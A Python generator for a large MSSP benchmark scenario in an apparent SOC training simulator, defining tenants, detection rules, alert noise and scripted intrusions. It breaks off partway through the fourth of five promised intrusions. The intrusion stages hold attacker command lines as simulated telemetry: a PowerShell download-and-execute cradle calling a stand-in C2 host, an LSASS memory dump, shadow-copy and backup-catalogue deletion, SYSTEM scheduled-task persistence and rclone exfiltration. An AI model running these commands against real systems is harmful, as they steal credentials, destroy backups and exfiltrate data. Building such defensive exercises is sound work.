#!/usr/bin/env python3
"""Write the benchmark's scale scenario, benches/scale.ron, to standard output.

The scenario is an MSSP at full size: 50 client tenants on Platinum to Bronze
contracts, 100 hosts each (5,000 hosts), 40 accounts each (2,000 accounts), 24 simulated
hours, about 1,000 benign alerts an hour over shared detection rules and source noise,
five intrusions in five different tenants spread over the day, and a 24-hour crew with
bots in every seat. It exists to measure how socdrill copes with a large world and a
long, busy queue; it is not a shipped scenario and does not belong in scenarios/.

The output is deterministic: no randomness, no clock, no environment. Rerun it from the
repository root after editing this file, and commit both files together:

    python3 benches/make_scale.py > benches/scale.ron

Python 3 standard library only.
"""

import sys

TENANTS = 50
HOSTS_PER_TENANT = 100
# Forty, not a handful: benign alerts name accounts drawn at random, and with only ten
# per tenant each account would collect a couple of dozen benign records a day, so
# nearly every Tier 2 look at an account would turn up something to misjudge.
ACCOUNTS_PER_TENANT = 40
TIME_LIMIT = "24h"

# Tenant names: a word and a sector, both cycled; ids are the word.
WORDS = [
    "alder", "birch", "cedar", "dunlin", "egret", "fennel", "gannet", "hazel", "ibis",
    "juniper", "kestrel", "larkspur", "marten", "nettle", "osprey", "plover", "quince",
    "rowan", "sorrel", "tansy", "umber", "vetch", "willow", "yarrow", "zinnia", "aster",
    "bramble", "clover", "dogwood", "elder", "foxglove", "gorse", "heron", "iris",
    "jasmine", "kingfisher", "linden", "mallow", "nightjar", "oriole", "pipit", "quail",
    "redstart", "sedge", "teasel", "upland", "valerian", "wren", "yew", "zephyr",
]
SECTORS = [
    "Community Health", "Precision Manufacturing", "& Vane LLP", "Garden Retail",
    "Credit Union", "Freight & Logistics", "School District", "Civil Engineering",
    "Hotels", "Dental Group",
]
# Contract tiers by the tenant's position: 5 Platinum, 15 Gold, 20 Silver, 10 Bronze.
SLA_BY_DIGIT = ["Platinum", "Gold", "Silver", "Bronze", "Gold", "Silver", "Bronze", "Gold",
                "Silver", "Silver"]

SURNAMES = [
    "okafor", "muller", "tran", "singh", "hartley", "novak", "reyes", "osei", "lindqvist",
    "haddad", "kowalski", "mbeki", "ferreira", "dubois", "yamada", "oconnell", "petrov",
    "alvarez", "nakamura", "brennan", "castillo", "eriksen", "farouk", "gallagher",
    "horvat", "ibrahim", "jensen", "kaur", "lopez", "moreau", "nilsen",
]
INITIALS = "abcdefghjklmnprstw"

# The five tenants under attack (index into the tenant list).
PHISH, BEC, RANSOM, WEBSHELL, CLOUD = 14, 2, 1, 3, 0


def tenant(i):
    word = WORDS[i]
    sector = SECTORS[i % len(SECTORS)]
    return word, f"{word.capitalize()} {sector}", SLA_BY_DIGIT[i % 10]


def hosts_of(t):
    """100 hosts: 12 servers of every kind and the cloud tenancy, then 87 workstations."""
    rows = [
        (f"{t}-dc01", "DomainController", "Critical"),
        (f"{t}-dc02", "DomainController", "Critical"),
        (f"{t}-fs01", "FileServer", "Critical"),
        (f"{t}-bkp01", "Backup", "Critical"),
        (f"{t}-db01", "Database", "Critical"),
        (f"{t}-web01", "WebServer", "High"),
        (f"{t}-web02", "WebServer", "High"),
        (f"{t}-app01", "Server", "Medium"),
        (f"{t}-app02", "Server", "Medium"),
        (f"{t}-app03", "Server", "Medium"),
        (f"{t}-app04", "Server", "Medium"),
        (f"{t}-print01", "Server", "Low"),
        (f"{t}-m365", "Cloud", "High"),
    ]
    for n in range(1, HOSTS_PER_TENANT - len(rows) + 1):
        rows.append((f"{t}-ws-{n:03d}", "Workstation", "Medium" if n % 10 == 1 else "Low"))
    return rows


def accounts_of(i, t):
    """ACCOUNTS_PER_TENANT accounts: the users, then an IT admin, a domain admin and two
    service accounts."""
    rows = []
    for k in range(ACCOUNTS_PER_TENANT - 4):
        s = SURNAMES[(i * 7 + k * 5) % len(SURNAMES)]
        f = INITIALS[(i * 3 + k) % len(INITIALS)]
        n = k // len(SURNAMES)
        rows.append((f"{t}-{f}.{s}{n if n else ''}", "User"))
    rows.append((f"{t}-it-admin", "Admin"))
    rows.append((f"{t}-adm-{SURNAMES[(i * 11 + 3) % len(SURNAMES)]}", "DomainAdmin"))
    rows.append((f"{t}-svc-backup", "Service"))
    rows.append((f"{t}-svc-app", "Service"))
    return rows


DATA_SOURCES = [
    ("edr", "Edr"), ("av", "Edr"), ("winsec", "WindowsEvents"), ("entra", "Identity"),
    ("m365", "CloudAudit"), ("proxy", "Proxy"), ("dns", "Dns"), ("fw", "Firewall"),
    ("ids", "Firewall"), ("waf", "WebServer"), ("email", "EmailGateway"),
]

# Shared detection content, as in most MSSPs. benign_per_hour is each rule's own
# false-positive rate over all 50 tenants. As in a real queue, the bulk of the noise is
# Low and Medium: it comes from the antivirus console, network IDS, DNS, proxy, mail and
# Microsoft 365, while the High and Critical endpoint, identity and perimeter rules that
# the intrusions trip raise under twenty benign alerts an hour between them, so that a
# severity-first queue still surfaces the intrusions.
# (id, name, source, techniques, fidelity, severity, benign_per_hour, enabled, sigma)
RULES = [
    # --- Endpoint detection and response ---
    ("EDR-OFFICE-CHILD", "Office application spawned a script interpreter", "edr",
     ["T1204.002"], 0.85, "High", 1.5, True,
     "rules/windows/image_load/image_load_office_vbadll_load.yml"),
    ("EDR-PS-CRADLE", "PowerShell download cradle or encoded command", "edr",
     ["T1059.001"], 0.7, "High", 3.0, True, None),
    ("EDR-LSASS", "LSASS process memory read by an unsigned process", "edr",
     ["T1003.001"], 0.75, "Critical", 0.5, True,
     "rules/windows/process_access/proc_access_win_lsass_dump_comsvcs_dll.yml"),
    ("EDR-WEBSHELL", "Web server process spawned a shell", "edr",
     ["T1505.003"], 0.8, "High", 0.5, True,
     "rules/linux/process_creation/proc_creation_lnx_webshell_detection.yml"),
    ("EDR-SHADOW-DELETE", "Shadow copies or backup catalogue deleted", "edr",
     ["T1490"], 0.9, "Critical", 0.25, True,
     "rules/windows/process_creation/proc_creation_win_susp_shadow_copies_deletion.yml"),
    ("EDR-RANSOM-CANARY", "Canary file modified / mass file rename", "edr",
     ["T1486"], 0.95, "Critical", 0.15, True, None),
    # --- Antivirus console: high volume, low severity ---
    ("AV-PUA", "Potentially unwanted remote-access or admin tool", "av",
     ["T1219"], 0.9, "Low", 60.0, True, None),
    ("AV-QUARANTINE", "Malware detected and quarantined", "av",
     ["T1204.002"], 0.9, "Medium", 20.0, True, None),
    # --- Windows events ---
    ("WIN-SCHTASK", "Scheduled task created pointing at a user-writable path", "winsec",
     ["T1053.005"], 0.5, "Medium", 20.0, True, None),
    ("WIN-PSEXEC-SVC", "Service installed over SMB admin share", "winsec",
     ["T1021.002", "T1569.002"], 0.6, "High", 2.0, True,
     "rules/windows/builtin/security/win_security_metasploit_or_impacket_smb_psexec_service_install.yml"),
    ("WIN-LOCKOUT", "Repeated account lockouts on one host", "winsec",
     ["T1110.001"], 0.9, "Low", 40.0, True, None),
    # --- Identity and Microsoft 365 ---
    ("ENTRA-SPRAY", "Failed sign-ins across many accounts from few IPs", "entra",
     ["T1110.003"], 0.45, "Medium", 12.0, True,
     "rules/cloud/azure/signin_logs/azure_ad_password_spray_via_signinlogs.yml"),
    ("ENTRA-MFA-BURST", "Burst of MFA pushes denied, then approved", "entra",
     ["T1621"], 0.6, "High", 1.5, True,
     "rules/cloud/azure/signin_logs/azure_successful_mfa_fatigue_attack.yml"),
    ("ENTRA-UNFAMILIAR", "Sign-in from unfamiliar location / impossible travel", "entra",
     ["T1078"], 0.5, "Medium", 25.0, True,
     "rules/cloud/m365/threat_management/microsoft365_impossible_travel_activity.yml"),
    ("M365-INBOX-RULE", "Inbox rule moves or deletes mail on security or payment keywords", "m365",
     ["T1564.008", "T1114.003"], 0.8, "Medium", 5.0, True,
     "rules/cloud/m365/microsoft365_suspicious_inbox_manipulation_rules.yml"),
    ("M365-EXT-SHARE", "Files shared with a personal or first-seen external domain", "m365",
     ["T1537", "T1567"], 0.4, "Low", 15.0, True, None),
    # --- Network and perimeter ---
    ("WAF-SCANNER", "Vulnerability scanner against an internet-facing application", "waf",
     ["T1595.002"], 0.9, "Low", 20.0, True, None),
    ("WAF-EXPLOIT", "Exploit attempt against an internet-facing application", "waf",
     ["T1190"], 0.3, "High", 2.0, True, None),
    ("PROXY-C2-BEACON", "Periodic beaconing to a young domain", "proxy",
     ["T1071.001"], 0.35, "Medium", 10.0, True, None),
    ("PROXY-CLOUD-UPLOAD", "Large upload to a file-sharing service", "proxy",
     ["T1567.002"], 0.5, "Medium", 8.0, True, None),
    ("DNS-NEWDOMAIN", "Query to a newly registered domain", "dns",
     ["T1071.001", "T1568"], 0.3, "Low", 20.0, True, None),
    ("FW-BIG-UPLOAD", "Large upload to an address never seen before", "fw",
     ["T1048"], 0.5, "Medium", 6.0, True, None),
    ("IDS-SCAN", "Internal port scan signature", "ids",
     ["T1046"], 0.9, "Low", 20.0, True, None),
    ("IDS-POLICY", "Policy violation: traffic on a non-standard port", "ids",
     ["T1571"], 0.7, "Low", 10.0, True, None),
    ("MAIL-PHISH-REPORT", "User-reported or sandbox-flagged phishing", "email",
     ["T1566.001", "T1566.002"], 0.5, "Medium", 25.0, True, None),
    ("MAIL-ATTACH", "Macro-enabled attachment from a first-time sender", "email",
     ["T1566.001"], 0.6, "Medium", 10.0, True,
     "rules/cloud/m365/audit/microsoft365_suspicious_email_delivered.yml"),
    # --- Written but not deployed: the gaps hunters find and engineers switch on ---
    ("EDR-ADFIND", "AdFind or domain trust enumeration", "edr",
     ["T1087.002", "T1482"], 0.8, "Medium", 8.0, False,
     "rules/windows/process_creation/proc_creation_win_pua_adfind_susp_usage.yml"),
    ("EDR-7Z-STAGING", "Archiver compressing a file share", "edr",
     ["T1560.001"], 0.8, "Medium", 3.0, False, None),
    ("M365-MASS-DOWNLOAD", "Mass download from SharePoint or OneDrive by one user", "m365",
     ["T1530", "T1213.002"], 0.7, "High", 1.5, False, None),
    ("FW-VPN-NEWGEO", "SSL VPN logon from a hosting provider or new country", "fw",
     ["T1133"], 0.6, "Medium", 5.0, False, None),
]

# Source noise: extra benign alerts per hour shared among all rules reading the source
# (a disabled rule's share stays silent; tuning a rule does not lower it), the benign
# activity investigations and hunts sift through, and look-alikes of the attackers'
# indicators. Look-alikes sit only on the quieter feeds and the mail gateway: on the
# busiest feeds one value would ride on hundreds of alerts a day, and every case that
# touched it would turn into a false incident. Benign activity totals 4,400 records an
# hour. (source, alerts_per_hour, activity_per_hour, lookalikes)
NOISE = [
    ("edr", 2.0, 800.0, [
        ("Process", r"powershell.exe -nop -c Get-HotFix | Export-Csv \\\\fs01\\it$\\patch.csv"),
        ("Process", "rundll32.exe printui.dll,PrintUIEntry /ia"),
    ]),
    ("av", 200.0, 200.0, []),
    ("winsec", 3.0, 700.0, []),
    ("entra", 3.0, 400.0, [("Ip", "198.51.100.200"), ("Ip", "203.0.113.78")]),
    ("m365", 60.0, 300.0, []),
    ("proxy", 100.0, 600.0, []),
    ("dns", 80.0, 500.0, []),
    ("fw", 60.0, 300.0, []),
    ("ids", 120.0, 200.0, []),
    ("waf", 3.0, 200.0, [("Ip", "192.0.2.66"), ("Ip", "203.0.113.46")]),
    ("email", 100.0, 200.0, [("Email", "billing@osprey-invoices.net")]),
]


def designed_benign():
    """Benign alerts per hour at T+0 over the enabled rules, as socdrill computes them."""
    total = 0.0
    for r in RULES:
        if not r[7]:
            continue
        peers = sum(1 for q in RULES if q[2] == r[2])
        extra = sum(n[1] for n in NOISE if n[0] == r[2])
        total += r[6] + extra / peers
    own = sum(r[6] for r in RULES if r[7])
    return total, own, total - own


def q(s):
    return '"' + s + '"'


def intrusions():
    """Five intrusions, each in its own tenant, spread over the day."""
    p = WORDS[PHISH]
    b = WORDS[BEC]
    r = WORDS[RANSOM]
    w = WORDS[WEBSHELL]
    pi, bi, ri = PHISH, BEC, RANSOM
    p_user = accounts_of(pi, p)[2][0]
    p_adm = accounts_of(pi, p)[-3][0]
    b_user = accounts_of(bi, b)[0][0]
    r_svc = accounts_of(ri, r)[-1][0]
    r_adm = accounts_of(ri, r)[-3][0]
    w_svc = accounts_of(WEBSHELL, w)[-1][0]
    c = WORDS[CLOUD]
    c_svc = accounts_of(CLOUD, c)[-2][0]
    subst = {
        "@PN@": tenant(pi)[1], "@BN@": tenant(bi)[1], "@RN@": tenant(ri)[1],
        "@WN@": tenant(WEBSHELL)[1], "@CN@": tenant(CLOUD)[1],
        "@C@": c, "@CSVC@": c_svc,
        "@P@": p, "@PUSER@": p_user, "@PADM@": p_adm,
        "@B@": b, "@BUSER@": b_user,
        "@R@": r, "@RSVC@": r_svc, "@RADM@": r_adm,
        "@W@": w, "@WSVC@": w_svc,
    }
    text = INTRUSIONS
    for k, v in subst.items():
        text = text.replace(k, v)
    return text


# Stage timings follow mssp-night-shift, phish-to-exfil, cloud-key-leak and the scenario
# guide's web shell tutorial; the first stages' delays are moved to spread the
# intrusions over the 24 hours. Raw string: the doubled backslashes are RON escapes.
INTRUSIONS = r"""    intrusions: [
        // Morning (T+1h-3h): invoice phish at a Gold credit union, to a file-server export.
        (
            id: "phish",
            name: "@PN@: invoice phish to customer-data exfiltration",
            tenant: "@P@",
            stages: [
                (id: "deliver", name: "Invoice phish delivered", tactic: "initial-access", technique: "T1566.001",
                 target: Host("@P@-ws-017"), delay: Uniform("1h", "3h"),
                 observables: [
                     (kind: Email, value: "billing@osprey-invoice.net"),
                     (kind: Hash, value: "9f2c1e0b7a44d3f1c6a1b2e3d4f5a6b7"),
                 ],
                 telemetry: [(source: "email", summary: "Invoice_4471.xlsm from billing@osprey-invoice.net to @PUSER@", account: "@PUSER@")],
                 severity: Medium),
                (id: "execute", name: "Macro runs PowerShell", tactic: "execution", technique: "T1204.002",
                 target: Host("@P@-ws-017"), after: ["deliver"], delay: Exponential("20m"),
                 requires: [NotBlocked("9f2c1e0b7a44d3f1c6a1b2e3d4f5a6b7")],
                 effects: [Foothold("@P@-ws-017")],
                 observables: [(kind: Process, value: "powershell.exe -nop -w hidden -enc"), (kind: Domain, value: "cdn-telemetry-check.net")],
                 telemetry: [(source: "edr", summary: "EXCEL.EXE spawned powershell.exe -nop -w hidden -enc; DownloadString('https://cdn-telemetry-check.net/u')", account: "@PUSER@")],
                 severity: High),
                (id: "beacon", name: "HTTPS beacon to C2", tactic: "command-and-control", technique: "T1071.001",
                 target: Host("@P@-ws-017"), after: ["execute"], delay: Uniform("2m", "10m"),
                 requires: [Foothold("@P@-ws-017"), NotBlocked("cdn-telemetry-check.net")],
                 observables: [(kind: Domain, value: "cdn-telemetry-check.net"), (kind: Ip, value: "198.51.100.77")],
                 telemetry: [
                     (source: "proxy", summary: "Periodic HTTPS POST to cdn-telemetry-check.net every 60 s"),
                     (source: "dns", summary: "@P@-ws-017 resolves cdn-telemetry-check.net (registered 3 days ago)"),
                 ],
                 severity: High),
                (id: "dump", name: "LSASS memory dumped", tactic: "credential-access", technique: "T1003.001",
                 target: Host("@P@-ws-017"), after: ["beacon"], delay: Uniform("30m", "1h30m"),
                 requires: [Foothold("@P@-ws-017")],
                 effects: [Compromise("@PADM@")],
                 observables: [(kind: Process, value: "rundll32.exe comsvcs.dll MiniDump")],
                 telemetry: [(source: "edr", summary: "rundll32.exe read lsass.exe memory via comsvcs.dll MiniDump; sessions: @PUSER@, @PADM@", account: "@PADM@")],
                 severity: Critical),
                (id: "lateral", name: "PsExec to the file server", tactic: "lateral-movement", technique: "T1021.002",
                 target: Host("@P@-fs01"), after: ["dump"], delay: Uniform("20m", "1h"),
                 requires: [Foothold("@P@-ws-017"), AccountEnabled("@PADM@")],
                 effects: [Foothold("@P@-fs01")],
                 telemetry: [
                     (source: "winsec", summary: "Service PSEXESVC installed on @P@-fs01 by @PADM@ from @P@-ws-017", account: "@PADM@"),
                     (source: "edr", host: "@P@-ws-017", summary: "@P@-ws-017 opened \\\\@P@-fs01\\ADMIN$ as @PADM@", account: "@PADM@"),
                 ],
                 fallback: "vpn-return",
                 severity: Critical),
                // With the workstation isolated, the stolen admin password still opens the VPN.
                (id: "vpn-return", name: "Back in over the VPN with stolen credentials", tactic: "initial-access", technique: "T1133",
                 target: Account("@PADM@"), delay: Uniform("45m", "2h"), fallback_only: true,
                 requires: [AccountEnabled("@PADM@")],
                 effects: [Foothold("@P@-fs01")],
                 observables: [(kind: Ip, value: "198.51.100.34")],
                 telemetry: [(source: "fw", host: "@P@-fs01", summary: "SSL VPN logon @PADM@ from 198.51.100.34 (new country), then RDP to @P@-fs01")],
                 severity: Critical),
                (id: "stage", name: "Customer export archived", tactic: "collection", technique: "T1560.001",
                 target: Host("@P@-fs01"), after: ["lateral"], delay: Uniform("30m", "1h30m"),
                 requires: [Foothold("@P@-fs01")],
                 observables: [(kind: File, value: "D:\\Shares\\Members\\export_2026.7z"), (kind: Domain, value: "mega.nz")],
                 telemetry: [(source: "edr", summary: "7z.exe a -p export_2026.7z D:\\Shares\\Members\\exports; rclone.conf written with a 'mega' remote")],
                 severity: High),
                (id: "exfil", name: "Upload to cloud storage", tactic: "exfiltration", technique: "T1567.002",
                 target: Host("@P@-fs01"), after: ["stage"], delay: Uniform("20m", "1h"),
                 requires: [Foothold("@P@-fs01"), NotBlocked("mega.nz")],
                 effects: [Impact("member records exfiltrated", 60.0)],
                 observables: [(kind: Domain, value: "mega.nz")],
                 telemetry: [
                     (source: "proxy", summary: "@P@-fs01 uploaded 11.8 GB to mega.nz"),
                     (source: "dns", summary: "@P@-fs01 resolves g.api.mega.co.nz"),
                 ],
                 severity: Critical),
            ],
        ),
        // Afternoon (T+6h-8h): password spray and MFA fatigue at a Silver law firm, to
        // SharePoint theft and wire fraud.
        (
            id: "bec",
            name: "@BN@: spray, MFA fatigue, SharePoint theft and wire fraud",
            tenant: "@B@",
            stages: [
                (id: "spray", name: "Low-and-slow password spray finds a partner's password", tactic: "credential-access", technique: "T1110.003",
                 target: Account("@BUSER@"), delay: Uniform("6h", "8h"),
                 effects: [Compromise("@BUSER@")],
                 observables: [(kind: Ip, value: "198.51.100.23"), (kind: Ip, value: "198.51.100.87")],
                 telemetry: [(source: "entra", summary: "212 failed sign-ins over 31 accounts from 198.51.100.23 and .87 (residential proxy ASN); 1 success for @BUSER@, MFA required")],
                 severity: Medium),
                (id: "mfa-fatigue", name: "MFA push bombing until the partner approves", tactic: "credential-access", technique: "T1621",
                 target: Account("@BUSER@"), after: ["spray"], delay: Uniform("1h", "2h"),
                 requires: [AccountEnabled("@BUSER@")],
                 observables: [(kind: Ip, value: "203.0.113.77")],
                 telemetry: [(source: "entra", summary: "@BUSER@: 17 MFA push notifications denied or timed out in 9 min, 18th approved from 203.0.113.77")],
                 severity: High),
                (id: "signin", name: "Interactive sign-in with the approved session", tactic: "initial-access", technique: "T1078.004",
                 target: Account("@BUSER@"), after: ["mfa-fatigue"], delay: Uniform("1m", "6m"),
                 requires: [AccountEnabled("@BUSER@"), NotBlocked("203.0.113.77")],
                 observables: [(kind: Ip, value: "203.0.113.77")],
                 telemetry: [(source: "entra", summary: "@BUSER@ signed in to OfficeHome from 203.0.113.77 (new country, unmanaged device) 14 min after a sign-in from the office")],
                 severity: High),
                // Gap: no rule watches security-info changes.
                (id: "register-mfa", name: "Attacker registers its own authenticator", tactic: "persistence", technique: "T1098.005",
                 target: Account("@BUSER@"), after: ["signin"], delay: Uniform("5m", "20m"),
                 requires: [AccountEnabled("@BUSER@")],
                 observables: [(kind: Ip, value: "203.0.113.77")],
                 telemetry: [(source: "m365", summary: "User registered security info: Microsoft Authenticator on device 'DESKTOP-7QK2M' for @BUSER@ from 203.0.113.77")],
                 severity: High),
                (id: "inbox-rule", name: "Inbox rule hides replies about payments", tactic: "defense-evasion", technique: "T1564.008",
                 target: Account("@BUSER@"), after: ["signin"], delay: Uniform("15m", "45m"),
                 requires: [AccountEnabled("@BUSER@")],
                 observables: [(kind: Ip, value: "203.0.113.77")],
                 telemetry: [(source: "m365", summary: "New-InboxRule '..' on @BUSER@: subject or body contains 'wire','invoice','bank','security' -> move to RSS Subscriptions, mark read")],
                 severity: Medium),
                // Gap: the mass-download rule is disabled.
                (id: "collect", name: "Client matter files pulled from SharePoint", tactic: "collection", technique: "T1530",
                 target: Account("@BUSER@"), after: ["register-mfa", "inbox-rule"], delay: Uniform("45m", "1h45m"),
                 requires: [AccountEnabled("@BUSER@"), NotBlocked("203.0.113.77")],
                 observables: [(kind: Ip, value: "203.0.113.77")],
                 telemetry: [(source: "m365", summary: "FileDownloaded x 3,412 from site 'Matters' by @BUSER@ from 203.0.113.77 in 38 min")],
                 severity: High),
                (id: "exfil", name: "Matter folders shared out to an external account", tactic: "exfiltration", technique: "T1537",
                 target: Account("@BUSER@"), after: ["collect"], delay: Uniform("20m", "1h"),
                 requires: [AccountEnabled("@BUSER@"), NotBlocked("203.0.113.77")],
                 effects: [Impact("client matter files exfiltrated", 50.0)],
                 observables: [(kind: Email, value: "records.desk@cedar-archive.net")],
                 telemetry: [(source: "m365", summary: "SharingInvitationCreated: 'Matters/M&A' and 'Matters/Litigation' shared with guest records.desk@cedar-archive.net by @BUSER@")],
                 severity: Critical),
                // Nothing alerts on the fraud mail itself.
                (id: "wire-fraud", name: "Clients sent 'updated wire instructions' from the partner's mailbox", tactic: "impact", technique: "T1657",
                 target: Account("@BUSER@"), after: ["inbox-rule"], delay: Uniform("2h30m", "4h"),
                 requires: [AccountEnabled("@BUSER@")],
                 effects: [Impact("escrow payment redirected to a mule account", 30.0)],
                 observables: [(kind: Email, value: "completions@cedarvane-law.com")],
                 telemetry: [(source: "email", summary: "@BUSER@ sent 'Revised completion funds - new account details' to 6 external clients from 203.0.113.77, Reply-To completions@cedarvane-law.com")],
                 severity: Critical),
            ],
        ),
        // Evening (T+11h-13h): exposed file-transfer server at a Gold manufacturer, to
        // encryption overnight; back in over the VPN if the server is cut off.
        (
            id: "ransom",
            name: "@RN@: exposed file-transfer server to encryption",
            tenant: "@R@",
            stages: [
                (id: "exploit", name: "Unpatched MFT server exploited", tactic: "initial-access", technique: "T1190",
                 target: Host("@R@-web02"), delay: Uniform("11h", "13h"),
                 effects: [Foothold("@R@-web02")],
                 observables: [(kind: Ip, value: "203.0.113.45"), (kind: Url, value: "https://mft.@R@-precision.com/goanywhere/lic/accept")],
                 telemetry: [
                     (source: "waf", summary: "POST /goanywhere/lic/accept with serialized payload from 203.0.113.45 -> HTTP 200"),
                     (source: "fw", summary: "@R@-web02 inbound 203.0.113.45:443, then outbound 203.0.113.45:8443"),
                 ],
                 severity: High),
                (id: "execute", name: "PowerShell cradle fetches a beacon", tactic: "execution", technique: "T1059.001",
                 target: Host("@R@-web02"), after: ["exploit"], delay: Uniform("5m", "20m"),
                 requires: [Foothold("@R@-web02")],
                 observables: [
                     (kind: Process, value: "powershell.exe -nop -w hidden -c IEX (iwr http://cdn-update-check.net/a)"),
                     (kind: Hash, value: "4b1e0a9c3f6d2e8a7b5c1d0e9f8a7b6c"),
                     (kind: Domain, value: "cdn-update-check.net"),
                 ],
                 telemetry: [(source: "edr", summary: "tomcat9.exe (GoAnywhere) spawned powershell.exe -nop -w hidden IEX (iwr cdn-update-check.net/a) as @RSVC@", account: "@RSVC@")],
                 severity: High),
                (id: "c2", name: "HTTPS beacon to C2", tactic: "command-and-control", technique: "T1071.001",
                 target: Host("@R@-web02"), after: ["execute"], delay: Uniform("2m", "10m"),
                 requires: [Foothold("@R@-web02"), NotBlocked("cdn-update-check.net")],
                 observables: [(kind: Domain, value: "cdn-update-check.net")],
                 telemetry: [
                     (source: "proxy", summary: "@R@-web02 HTTPS POST to cdn-update-check.net every 45 s"),
                     (source: "dns", summary: "@R@-web02 resolves cdn-update-check.net (registered 5 days ago)"),
                 ],
                 severity: High),
                (id: "persist", name: "Scheduled task keeps the beacon", tactic: "persistence", technique: "T1053.005",
                 target: Host("@R@-web02"), after: ["c2"], delay: Uniform("10m", "40m"),
                 requires: [Foothold("@R@-web02")],
                 observables: [(kind: Process, value: "schtasks /create /tn \\Microsoft\\Windows\\Maintenance\\SysHealth /sc onstart /ru SYSTEM")],
                 telemetry: [
                     (source: "winsec", summary: "4698 task \\Microsoft\\Windows\\Maintenance\\SysHealth created on @R@-web02 running C:\\ProgramData\\SysHealth\\svc.exe as SYSTEM"),
                     (source: "edr", summary: "schtasks.exe /create /tn \\Microsoft\\Windows\\Maintenance\\SysHealth /sc onstart /ru SYSTEM"),
                 ],
                 severity: High),
                // Gap: the AdFind rule is disabled.
                (id: "discover", name: "AdFind and net map the domain", tactic: "discovery", technique: "T1087.002",
                 target: Host("@R@-web02"), after: ["persist"], delay: Uniform("30m", "1h30m"),
                 requires: [Foothold("@R@-web02")],
                 observables: [(kind: File, value: "C:\\ProgramData\\SysHealth\\adf.exe")],
                 telemetry: [(source: "edr", summary: "adf.exe -f (objectcategory=person) > ad_users.txt; net group \"Domain Admins\" /domain")],
                 severity: Medium),
                (id: "creds", name: "LSASS dumped: a domain admin's credentials", tactic: "credential-access", technique: "T1003.001",
                 target: Host("@R@-web02"), after: ["discover"], delay: Uniform("20m", "1h"),
                 requires: [Foothold("@R@-web02")],
                 effects: [Compromise("@RADM@")],
                 observables: [(kind: Process, value: "rundll32.exe comsvcs.dll MiniDump 712 C:\\Windows\\Temp\\d.bin full")],
                 telemetry: [(source: "edr", summary: "rundll32.exe read lsass.exe memory via comsvcs.dll MiniDump; @RADM@ had an RDP session open", account: "@RADM@")],
                 severity: Critical),
                (id: "lateral", name: "PsExec to the file and backup servers", tactic: "lateral-movement", technique: "T1021.002",
                 target: Host("@R@-fs01"), after: ["creds"], delay: Uniform("20m", "1h"),
                 requires: [Foothold("@R@-web02"), AccountEnabled("@RADM@")],
                 effects: [Foothold("@R@-fs01"), Foothold("@R@-bkp01")],
                 telemetry: [
                     (source: "winsec", summary: "Service PSEXESVC installed on @R@-fs01 by @RADM@ from @R@-web02", account: "@RADM@"),
                     (source: "winsec", host: "@R@-bkp01", summary: "Service PSEXESVC installed on @R@-bkp01 by @RADM@ from @R@-web02", account: "@RADM@"),
                     (source: "edr", host: "@R@-web02", summary: "@R@-web02 opened \\\\@R@-fs01\\ADMIN$ and \\\\@R@-bkp01\\ADMIN$ as @RADM@", account: "@RADM@"),
                 ],
                 fallback: "vpn-return",
                 severity: Critical),
                // Gap: the VPN logon rule is not deployed.
                (id: "vpn-return", name: "Back in over the SSL VPN with the stolen admin", tactic: "initial-access", technique: "T1133",
                 target: Account("@RADM@"), delay: Uniform("40m", "1h30m"), fallback_only: true,
                 requires: [AccountEnabled("@RADM@")],
                 effects: [Foothold("@R@-fs01"), Foothold("@R@-bkp01")],
                 observables: [(kind: Ip, value: "198.51.100.140")],
                 telemetry: [
                     (source: "fw", host: "@R@-fs01", summary: "SSL VPN logon @RADM@ from 198.51.100.140 (hosting ASN), then RDP to @R@-fs01 and @R@-bkp01"),
                     (source: "winsec", host: "@R@-fs01", summary: "4624 type 10 logon @RADM@ on @R@-fs01 from VPN pool 10.20.99.14", account: "@RADM@"),
                 ],
                 severity: Critical),
                (id: "inhibit", name: "Shadow copies and backup catalogue destroyed", tactic: "impact", technique: "T1490",
                 target: Host("@R@-bkp01"), after: ["lateral"], delay: Uniform("50m", "1h30m"),
                 requires: [Foothold("@R@-bkp01")],
                 effects: [Impact("backups and shadow copies destroyed", 30.0)],
                 observables: [(kind: Process, value: "vssadmin delete shadows /all /quiet & wbadmin delete catalog -quiet")],
                 telemetry: [
                     (source: "edr", summary: "vssadmin.exe delete shadows /all /quiet; wbadmin delete catalog -quiet; Veeam services stopped"),
                     (source: "edr", host: "@R@-fs01", summary: "vssadmin.exe delete shadows /all /quiet on @R@-fs01"),
                 ],
                 severity: Critical),
                (id: "encrypt", name: "File server shares encrypted", tactic: "impact", technique: "T1486",
                 target: Host("@R@-fs01"), after: ["lateral"], delay: Uniform("1h40m", "2h45m"),
                 requires: [Foothold("@R@-fs01")],
                 effects: [Impact("file server shares encrypted", 70.0)],
                 observables: [(kind: File, value: "README-KST3.txt")],
                 telemetry: [(source: "edr", summary: "kst3.exe renamed 48,000 files to *.kst3 under D:\\Shares in 6 min; README-KST3.txt dropped in every folder")],
                 severity: Critical),
            ],
        ),
        // Night (T+17h-19h): web shell on a Bronze retailer's shop, to the order database.
        (
            id: "webshell",
            name: "@WN@: shop web shell to the order database",
            tenant: "@W@",
            stages: [
                (id: "exploit", name: "Upload flaw exploited", tactic: "initial-access", technique: "T1190",
                 target: Host("@W@-web01"), delay: Uniform("17h", "19h"),
                 observables: [(kind: Ip, value: "203.0.113.23")],
                 telemetry: [(source: "waf", summary: "POST /api/avatar with a .php payload from 203.0.113.23")],
                 severity: Medium),
                (id: "shell", name: "Web shell written and used", tactic: "persistence", technique: "T1505.003",
                 target: Host("@W@-web01"), after: ["exploit"], delay: Uniform("2m", "10m"),
                 requires: [NotBlocked("203.0.113.23")],
                 effects: [Foothold("@W@-web01")],
                 observables: [(kind: File, value: "/var/www/shop/uploads/avatar_7731.php")],
                 telemetry: [(source: "edr", summary: "php-fpm spawned sh -c 'id; uname -a'")],
                 severity: High),
                (id: "creds", name: "Database password read from the shop config", tactic: "credential-access", technique: "T1552.001",
                 target: Host("@W@-web01"), after: ["shell"], delay: Uniform("30m", "1h30m"),
                 requires: [Foothold("@W@-web01")],
                 effects: [Compromise("@WSVC@")],
                 telemetry: [(source: "edr", summary: "sh read /var/www/shop/.env", account: "@WSVC@")],
                 severity: High),
                (id: "exfil", name: "Order table dumped and uploaded", tactic: "exfiltration", technique: "T1048.003",
                 target: Host("@W@-web01"), after: ["creds"], delay: Uniform("30m", "1h30m"),
                 requires: [Foothold("@W@-web01"), AccountEnabled("@WSVC@"), NotBlocked("203.0.113.23")],
                 effects: [Impact("customer orders copied", 40.0)],
                 telemetry: [
